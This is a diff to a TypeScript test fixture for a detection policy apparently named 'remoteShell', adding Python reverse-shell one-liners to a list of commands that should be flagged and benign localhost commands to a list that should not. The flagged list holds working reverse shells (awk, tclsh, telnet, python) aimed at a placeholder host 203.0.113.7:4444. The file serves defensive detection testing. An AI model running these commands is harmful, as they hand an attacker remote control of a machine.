@@ -56,9 +56,13 @@ export const remoteShell: readonly Policy[] = [
       "awk 'BEGIN{c=\"/inet/tcp/0/203.0.113.7/4444\"; while (c |& getline) while (($0 | getline o) > 0) print o |& c}'",
       "tclsh <<< 'set c [socket 203.0.113.7 4444]; while 1 {gets $c r; puts $c [exec sh -c $r]}'",
       "telnet 203.0.113.7 4444 | sh | telnet 203.0.113.7 4445",
+      'python3 -c \'import socket,subprocess; s=socket.create_connection(("203.0.113.7",4444)); p=subprocess.Popen(["bash"],stdin=s)\'',
+      "python3 -c 'import socket,subprocess as p; s=socket.create_connection((\"203.0.113.7\",4444))\nwhile 1: s.send(p.getoutput(s.recv(999)).encode())'",
     ],
     misses: [
       "bash -i",
+      'python3 -c \'import socket, subprocess; subprocess.Popen(["npm", "start"]); socket.create_connection(("127.0.0.1", 8080)).close()\'',
+      "python3 <<'E'\nimport socket, subprocess\nsubprocess.run(['make'])\nsocket.socket().connect_ex(('localhost', 5432))\nE",
       "ruby -rsocket -e 'puts Socket.gethostname, `uname -a`'",
       'gawk \'BEGIN{c="/inet/tcp/0/localhost/80"; print "GET /" |& c; c |& getline r; print r}\'',
       'awk \'BEGIN{c="/inet/tcp/0/localhost/80"; print "GET /" |& c; while ((c |& getline r) > 0) print r}\'',
